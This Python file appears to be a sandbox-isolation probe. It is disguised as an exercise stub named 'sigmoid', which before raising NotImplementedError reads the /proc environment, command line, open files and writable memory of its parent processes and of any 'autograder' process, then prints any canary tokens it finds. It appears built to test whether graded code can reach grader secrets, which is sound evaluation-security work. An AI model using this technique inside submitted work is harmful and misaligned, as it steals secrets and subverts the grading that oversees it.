"""Reads environment, command line, open files and memory of its ancestors and fellows under /proc.

aims: read
"""

import os
import re
import time

TOKEN = re.compile(rb"CANARY-[0-9a-f]{16}")
END = time.monotonic() + 3


def show(where, data):
    for token in sorted(set(TOKEN.findall(data))):
        print("LEAK", where, token.decode(), flush=True)


def read(path, limit=2**20):
    """Some of a file's bytes; nothing when the kernel says no."""
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def look_at(pid):
    for name in ("environ", "cmdline", "maps", "stack", "auxv", "mountinfo", "net/unix", "task/%d/environ" % pid):
        show(f"/proc/{pid}/{name}", read(f"/proc/{pid}/{name}"))
    try:
        for descriptor in os.listdir(f"/proc/{pid}/fd"):
            show(f"/proc/{pid}/fd/{descriptor}", os.readlink(f"/proc/{pid}/fd/{descriptor}").encode())
            if os.path.isfile(f"/proc/{pid}/fd/{descriptor}"):  # a socket or terminal would wait for input
                show(f"/proc/{pid}/fd/{descriptor}", read(f"/proc/{pid}/fd/{descriptor}"))
    except OSError:
        pass
    look_at_memory(pid)


def look_at_memory(pid):
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in read(f"/proc/{pid}/maps").decode().splitlines():
                first, last = (int(number, 16) for number in line.split()[0].split("-"))
                if "rw" in line and last - first < 2**26 and time.monotonic() < END:
                    memory.seek(first)
                    show(f"/proc/{pid}/mem", memory.read(last - first))
    except (OSError, ValueError, OverflowError):
        pass


def relatives():
    """The parent, its parents, and whoever else runs a grader."""
    pid = os.getppid()
    while pid > 0:
        yield pid
        words = read(f"/proc/{pid}/stat").rpartition(b")")[2].split()
        pid = int(words[1]) if len(words) > 1 else 0
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid() and b"autograder" in read(f"/proc/{name}/cmdline"):
            yield int(name)


def sigmoid(Z):
    for pid in relatives():
        look_at(pid)
    raise NotImplementedError("03.1: sigmoid")
